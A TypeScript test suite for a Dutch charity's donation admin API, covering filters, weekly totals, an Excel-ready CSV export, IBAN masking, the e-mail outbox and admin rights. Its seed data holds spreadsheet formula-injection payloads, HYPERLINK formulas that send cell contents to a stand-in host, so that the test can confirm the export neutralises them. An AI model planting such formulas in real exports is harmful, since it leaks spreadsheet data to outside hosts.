import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { describe, expect, it, vi } from "vitest";
import {
  contactMessages,
  donations,
  monthlyDonors,
  outboundEmails,
  volunteerApplications,
} from "../../db/schema";
import { buildTestApp, type TestApp } from "../../test/app";
import { engines } from "../../test/databases";
import { adminAndMember, asBrowser } from "../../test/auth";
import { CSV_COLUMNS } from "./donations-csv";

type NewDonation = typeof donations.$inferInsert;

function donation(overrides: Partial<NewDonation>): NewDonation {
  return {
    kind: "one-off",
    destination: "winterhulp",
    purpose: "Winterhulp Gaza",
    amountCents: 2500,
    status: "paid",
    provider: "demo",
    name: "Yusuf Bakker",
    email: "yusuf@example.nl",
    ...overrides,
  };
}

async function seedDonations({ app }: TestApp) {
  await app.services.database.db.insert(donations).values([
    // Monday 3 Nov 2025, 00:30 in Amsterdam = Sunday 23:30 UTC: counts for the week of 3 Nov.
    donation({ createdAt: new Date("2025-11-02T23:30:00Z"), amountCents: 125050 }),
    donation({
      createdAt: new Date("2025-11-05T10:00:00Z"),
      kind: "zakat",
      destination: "ZAKAAT",
      purpose: "Zakaat - €40,00",
      amountCents: 4000,
      status: "pending",
      name: null,
      firstName: "Amina",
      lastName: "Yilmaz",
      email: "amina@example.nl",
    }),
    donation({
      createdAt: new Date("2025-11-20T09:00:00Z"),
      destination: "water",
      purpose: "Water",
      amountCents: 1000,
      name: '=HYPERLINK("http://kwaad.example")',
      message: FORMULA_ON_TWO_LINES,
    }),
  ]);
}

/** A formula with a semicolon and a line break in a string: still one formula for Excel. */
const FORMULA_ON_TWO_LINES = '=HYPERLINK("http://kwaad.example/?e="&H2;"Bekijk\nbericht")';

/** A stored receipt e-mail of the outbox (its status added per test). */
const receiptMail = {
  template: "receipt",
  toAddress: "a@example.nl",
  fromAddress: "noreply@example.nl",
  subject: "Bedankt",
  html: "<p>Bedankt</p>",
  text: "Bedankt",
};

describe.each(engines)("admin donations on %s", (engine) => {
  it("filters by kind, destination, status and period, with totals in cents and weeks", async () => {
    const test = await buildTestApp({ engine });
    const { app } = test;
    const { admin } = await adminAndMember(app);
    await seedDonations(test);
    const get = (query: string) =>
      app
        .inject({ url: `/api/admin/donations${query}`, headers: { cookie: admin } })
        .then((r) => r.json());

    const all = await get("?from=2025-11-01&to=2025-11-30");
    expect(all.totals).toEqual({
      count: 3,
      paidCount: 2,
      paidAmountCents: 126050,
      otherStatuses: [{ status: "pending", count: 1, amountCents: 4000 }],
    });
    expect(all.donations.map((d: { amountCents: number }) => d.amountCents)).toEqual([
      1000, 4000, 125050,
    ]);
    expect(all.donations[1].name).toBe("Amina Yilmaz");
    expect(all.weeks).toEqual([
      { week: "2025-10-27", count: 0, amountCents: 0 },
      // Paid donations only: the pending zakat of 5 November is not in its week.
      { week: "2025-11-03", count: 1, amountCents: 125050 },
      { week: "2025-11-10", count: 0, amountCents: 0 },
      { week: "2025-11-17", count: 1, amountCents: 1000 },
      { week: "2025-11-24", count: 0, amountCents: 0 },
    ]);

    expect((await get("?kind=zakat")).totals.count).toBe(1);
    expect((await get("?destination=water")).totals.paidAmountCents).toBe(1000);
    const pending = (await get("?status=pending")).totals;
    expect(pending.paidAmountCents).toBe(0);
    expect(pending.otherStatuses).toEqual([{ status: "pending", count: 1, amountCents: 4000 }]);
    // The period is Amsterdam days: 00:30 on 3 Nov local is inside "from 3 Nov".
    expect((await get("?from=2025-11-03&to=2025-11-03")).totals.paidAmountCents).toBe(125050);
    expect((await get("?from=2025-11-21")).totals.count).toBe(0);
  });

  it("counts a paid donation on the day it was paid, like the yearly statement: the list, the weeks and the CSV", async () => {
    const test = await buildTestApp({ engine });
    const { app } = test;
    const { admin } = await adminAndMember(app);
    await app.services.database.db.insert(donations).values([
      // Started at 23:50 on 31 December 2025 in Amsterdam, paid at 00:10 on 1 January.
      donation({
        createdAt: new Date("2025-12-31T22:50:00Z"),
        paidAt: new Date("2025-12-31T23:10:00Z"),
        amountCents: 10000,
      }),
      // Never paid: counted on the day it was started.
      donation({ createdAt: new Date("2025-12-31T12:00:00Z"), status: "failed", amountCents: 700 }),
    ]);
    const get = (query: string) =>
      app
        .inject({ url: `/api/admin/donations${query}`, headers: { cookie: admin } })
        .then((r) => r.json());

    const december = await get("?from=2025-12-01&to=2025-12-31");
    expect(december.totals).toMatchObject({ count: 1, paidCount: 0, paidAmountCents: 0 });
    const january = await get("?from=2026-01-01&to=2026-01-31");
    expect(january.totals).toMatchObject({ count: 1, paidCount: 1, paidAmountCents: 10000 });
    expect(january.donations[0].paidAt).toBe("2025-12-31T23:10:00.000Z");
    expect(january.weeks[0]).toEqual({ week: "2025-12-29", count: 1, amountCents: 10000 });
    const csv = await app.inject({
      url: "/api/admin/donations/export.csv?from=2026-01-01&to=2026-01-31",
      headers: { cookie: admin },
    });
    const rows = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), { delimiter: ";" }).data;
    expect(rows.filter((r) => r.length > 1)).toHaveLength(2); // the header and the one gift
    // Its 'Datum' is the day it counts for (paid), as on the page, inside the period asked.
    const [header, gift] = rows as [string[], string[]];
    expect(gift[header.indexOf("Datum")]).toBe("01-01-2026 00:10");
    expect(gift[header.indexOf("Betaald op")]).toBe("01-01-2026 00:10");
  });

  it("totals paid donations only, other statuses apart; a company zakat shows the company", async () => {
    const test = await buildTestApp({ engine });
    const { app } = test;
    const { admin } = await adminAndMember(app);
    const day = (d: number) => new Date(`2025-12-0${d}T10:00:00Z`);
    await app.services.database.db.insert(donations).values([
      // A private gift from someone who once gave for a company: no company in the list.
      donation({
        createdAt: day(1),
        amountCents: 5000,
        donorType: "individual",
        companyName: "Oud BV",
      }),
      donation({ createdAt: day(2), amountCents: 7000, status: "pending" }),
      donation({ createdAt: day(3), amountCents: 900, status: "failed" }),
      donation({ createdAt: day(4), amountCents: 1100, status: "failed" }),
      donation({ createdAt: day(5), amountCents: 300, status: "cancelled" }),
      donation({ createdAt: day(6), amountCents: 200, status: "expired" }),
      donation({
        createdAt: day(7),
        kind: "zakat",
        destination: "ZAKAAT",
        purpose: "Zakaat - € 316,75",
        amountCents: 31675,
        donorType: "company",
        name: "Jan Jansen",
        firstName: "Jan",
        lastName: "Jansen",
        companyName: "Bakkerij Yilmaz BV",
        email: "boekhouding@bakkerij.example",
      }),
    ]);
    const res = await app.inject({
      url: "/api/admin/donations?from=2025-12-01",
      headers: { cookie: admin },
    });
    expect(res.statusCode).toBe(200);
    const report = res.json();
    expect(report.totals).toEqual({
      count: 7,
      paidCount: 2,
      paidAmountCents: 36675,
      otherStatuses: [
        { status: "pending", count: 1, amountCents: 7000 },
        { status: "failed", count: 2, amountCents: 2000 },
        { status: "cancelled", count: 1, amountCents: 300 },
        { status: "expired", count: 1, amountCents: 200 },
      ],
    });
    const weekSum = report.weeks.reduce(
      (n: number, w: { amountCents: number }) => n + w.amountCents,
      0,
    );
    expect(weekSum).toBe(36675);
    expect(report.donations).toHaveLength(7);
    const [zakat, ...others] = report.donations;
    expect(zakat).toMatchObject({ name: "Jan Jansen", companyName: "Bakkerij Yilmaz BV" });
    expect(others.find((d: { amountCents: number }) => d.amountCents === 5000)).toMatchObject({
      name: "Yusuf Bakker",
      companyName: null,
    });
    expect(others.every((d: { companyName: string | null }) => d.companyName === null)).toBe(true);
    // The CSV the same: the company column is filled for the company's gift only.
    const csv = await app.inject({
      url: "/api/admin/donations/export.csv?from=2025-12-01",
      headers: { cookie: admin },
    });
    const [header, ...lines] = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), {
      delimiter: ";",
      skipEmptyLines: true,
    }).data;
    const company = header!.indexOf("Bedrijfsnaam");
    expect(company).toBeGreaterThan(-1);
    expect(lines.map((line) => line[company]).filter(Boolean)).toEqual(["Bakkerij Yilmaz BV"]);
  });

  it("never names a private gift after a stored company, not even when it has no name", async () => {
    const { app } = await buildTestApp({ engine });
    const { admin } = await adminAndMember(app);
    await app.services.database.db.insert(donations).values(
      donation({
        createdAt: new Date("2025-12-01T10:00:00Z"),
        donorType: "individual",
        name: null,
        companyName: "Oud BV",
      }),
    );
    const list = await app.inject({
      url: "/api/admin/donations?from=2025-12-01",
      headers: { cookie: admin },
    });
    expect(list.json().donations).toMatchObject([{ name: "", companyName: null }]);
    const csv = await app.inject({
      url: "/api/admin/donations/export.csv?from=2025-12-01",
      headers: { cookie: admin },
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.body).not.toContain("Oud BV");
  });

  it("refuses unknown filters with 'Validatiefout'", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    for (const [query, message] of [
      ["?kind=lening", "Onbekende soort"],
      ["?status=ok", "Onbekende status"],
      ["?from=2025-13-45", "Ongeldige begindatum"],
      ["?from=2025-11-05&to=2025-11-01", "De begindatum ligt na de einddatum"],
    ]) {
      const res = await app.inject({
        url: `/api/admin/donations${query}`,
        headers: { cookie: admin },
      });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toEqual({ error: "Validatiefout", message });
    }
  });

  it("names the CSV after the Dutch day, not the UTC one", async () => {
    const test = await buildTestApp({ engine });
    const { admin } = await adminAndMember(test.app);
    // 23:30 UTC on 31 January is already 1 February in Amsterdam.
    vi.useFakeTimers({ toFake: ["Date"], now: new Date("2026-01-31T23:30:00Z") });
    try {
      const res = await test.app.inject({
        url: "/api/admin/donations/export.csv",
        headers: { cookie: admin },
      });
      expect(res.headers["content-disposition"]).toBe(
        'attachment; filename="donaties-2026-02-01.csv"',
      );
    } finally {
      vi.useRealTimers();
    }
  });

  it("exports CSV for Dutch Excel: BOM, semicolons, decimal comma, formulas neutralised", async () => {
    const test = await buildTestApp({ engine });
    const { app } = test;
    const { admin } = await adminAndMember(app);
    await seedDonations(test);
    const res = await app.inject({
      url: "/api/admin/donations/export.csv?from=2025-11-01",
      headers: { cookie: admin },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="donaties-.*\.csv"$/);
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString("utf8").slice(1), {
      delimiter: ";",
      skipEmptyLines: true,
    });
    const [header, ...rows] = parsed.data;
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r[4])).toEqual(["10,00", "40,00", "1250,50"]);
    expect(rows[2]?.[0]).toBe("03-11-2025 00:30");
    expect(rows[1]?.[1]).toBe("Zakaat");
    expect(rows[1]?.[5]).toBe("In afwachting");
    expect(rows[1]?.[3]).toBe("Zakaat - €40,00");
    expect(rows[0]?.[6]).toBe('\'=HYPERLINK("http://kwaad.example")');
    expect(rows[0]?.[13]).toBe(`'${FORMULA_ON_TWO_LINES}`);
  });
});

describe("admin records", () => {
  it("lists monthly donors with the IBAN masked", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    await app.services.database.db.insert(monthlyDonors).values({
      firstName: "Fatima",
      lastName: "de Vries",
      email: "fatima@example.nl",
      iban: "NL91ABNA0417164300",
      amountCents: 1500,
    });
    const res = await app.inject({ url: "/api/admin/monthly-donors", headers: { cookie: admin } });
    expect(res.json().monthlyDonors).toMatchObject([
      { firstName: "Fatima", iban: "NL91 **** **** **43 00", amountCents: 1500 },
    ]);
    expect(res.body).not.toContain("0417164300");
  });

  it("marks a contact message 'afgehandeld' and back", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    const [message] = await app.services.database.db
      .insert(contactMessages)
      .values({ name: "Sara", email: "sara@example.nl", message: "Hoe kan ik helpen?" })
      .returning();
    const patch = (resolved: unknown) =>
      app.inject({
        method: "PATCH",
        url: `/api/admin/messages/${message!.id}`,
        headers: asBrowser(app, admin),
        payload: { resolved },
      });
    const done = await patch(true);
    expect(done.json().message.resolvedAt).toEqual(expect.any(String));
    const list = await app.inject({ url: "/api/admin/messages", headers: { cookie: admin } });
    expect(list.json().messages[0].resolvedAt).toBe(done.json().message.resolvedAt);
    expect((await patch(false)).json().message.resolvedAt).toBeNull();
    expect((await patch("ja")).statusCode).toBe(400);
  });

  it("lists volunteers and the e-mail outbox by status, one message with its text", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    const { db } = app.services.database;
    await db.insert(volunteerApplications).values({
      name: "Omar",
      email: "omar@example.nl",
      motivation: "Ik wil helpen",
    });
    const [failed] = await db
      .insert(outboundEmails)
      .values([
        {
          template: "contact",
          toAddress: "info@example.nl",
          fromAddress: "noreply@example.nl",
          subject: "Nieuw bericht",
          html: "<p>Hallo</p>",
          text: "Hallo",
          status: "failed",
          lastError: "550 mailbox unavailable",
        },
        { ...receiptMail, status: "sent" },
      ])
      .returning();
    const volunteers = await app.inject({
      url: "/api/admin/volunteers",
      headers: { cookie: admin },
    });
    expect(volunteers.json().volunteers).toMatchObject([{ name: "Omar" }]);
    const onlyFailed = await app.inject({
      url: "/api/admin/email?status=failed",
      headers: { cookie: admin },
    });
    expect(onlyFailed.json().emails).toMatchObject([
      { subject: "Nieuw bericht", status: "failed", lastError: "550 mailbox unavailable" },
    ]);
    const all = await app.inject({ url: "/api/admin/email", headers: { cookie: admin } });
    expect(all.json().emails).toHaveLength(2);
    const one = await app.inject({
      url: `/api/admin/email/${failed!.id}`,
      headers: { cookie: admin },
    });
    expect(one.json().email).toMatchObject({ text: "Hallo", subject: "Nieuw bericht" });
    expect(one.json().email.html).toBeUndefined();
  });

  it("sends a failed e-mail again on an admin's word, and only a failed one", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    const { db } = app.services.database;
    const [failed, sent] = await db
      .insert(outboundEmails)
      .values([
        { ...receiptMail, status: "failed", attempts: 9, lastError: "connect ECONNREFUSED" },
        { ...receiptMail, status: "sent" },
      ])
      .returning();
    const resend = (id: string) =>
      app.inject({
        method: "POST",
        url: `/api/admin/email/${id}/resend`,
        headers: asBrowser(app, admin),
        payload: {},
      });
    expect((await resend(failed!.id)).json()).toEqual({ ok: true });
    // Delivered by the outbox transport this time: the row is 'stored', tried once more.
    await expect
      .poll(
        async () =>
          (await db.select().from(outboundEmails).where(eq(outboundEmails.id, failed!.id)))[0],
      )
      .toMatchObject({ status: "stored", attempts: 10 });
    const again = await resend(failed!.id);
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe("Alleen een mislukte e-mail kan opnieuw worden verstuurd.");
    expect((await resend(sent!.id)).statusCode).toBe(409);
    expect((await resend("00000000-0000-4000-8000-000000000000")).statusCode).toBe(404);
    // An id that is no id at all is not found either (it never reaches the database).
    for (const id of ["abc", "1", "null"]) {
      const res = await resend(id);
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ error: "Niet gevonden", message: "E-mail niet gevonden" });
    }
  });

  it("lets an admin grant and revoke admin over HTTP, never their own nor the last admin's", async () => {
    const { app } = await buildTestApp();
    const { admin, member } = await adminAndMember(app);
    const headers = asBrowser(app, admin);
    const users = await app.inject({ url: "/api/admin/users", headers: { cookie: admin } });
    const list = users.json().users as { id: string; email: string; isAdmin: boolean }[];
    expect(list.map((u) => [u.email, u.isAdmin])).toEqual([
      ["beheerder@example.org", true],
      ["lid@example.org", false],
    ]);
    const [first, second] = list;
    const revokeFirst = (cookie: string) =>
      app.inject({
        method: "DELETE",
        url: `/api/admin/users/${first!.id}/admin`,
        headers: asBrowser(app, cookie),
      });
    const ownWhileLast = await revokeFirst(admin);
    expect(ownWhileLast.statusCode).toBe(409);
    expect(ownWhileLast.json()).toEqual({
      error: "Niet toegestaan",
      message:
        "Je kunt je eigen beheerdersrechten niet intrekken. Vraag een andere beheerder dat te doen.",
    });
    const grant = await app.inject({
      method: "PUT",
      url: `/api/admin/users/${second!.id}/admin`,
      headers,
    });
    expect(grant.statusCode).toBe(204);
    // The member's own session now passes the guard.
    const now = await app.inject({ url: "/api/admin/users", headers: { cookie: member } });
    expect(now.statusCode).toBe(200);
    // With a second admin the first still cannot revoke their own rights.
    const own = await revokeFirst(admin);
    expect(own.statusCode).toBe(409);
    expect(own.json().message).toMatch(/^Je kunt je eigen beheerdersrechten niet intrekken\./);
    const still = await app.inject({ url: "/api/admin/users", headers: { cookie: admin } });
    expect(still.statusCode).toBe(200);
    // The other admin can.
    const revoke = await revokeFirst(member);
    expect(revoke.statusCode).toBe(204);
    const gone = await app.inject({ url: "/api/admin/users", headers: { cookie: admin } });
    expect(gone.statusCode).toBe(403);
  });

  it("reads and writes the metal prices the zakat calculator gets", async () => {
    const { app } = await buildTestApp();
    const { admin } = await adminAndMember(app);
    const put = await app.inject({
      method: "PUT",
      url: "/api/admin/settings/metal-prices",
      headers: asBrowser(app, admin),
      payload: { goldPricePerGram: "71.25", silverPricePerGram: 0.91 },
    });
    expect(put.statusCode).toBe(200);
    const settings = await app.inject({ url: "/api/admin/settings", headers: { cookie: admin } });
    expect(settings.json().metalPrices).toMatchObject({
      goldPricePerGram: 71.25,
      silverPricePerGram: 0.91,
    });
    const publicPrices = await app.inject({ url: "/api/metal-prices" });
    expect(publicPrices.json()).toMatchObject({
      goldPricePerGram: 71.25,
      silverPricePerGram: 0.91,
    });
    const bad = await app.inject({
      method: "PUT",
      url: "/api/admin/settings/metal-prices",
      headers: asBrowser(app, admin),
      payload: { goldPricePerGram: -1, silverPricePerGram: 0.91 },
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toBe("Validatiefout");
  });
});
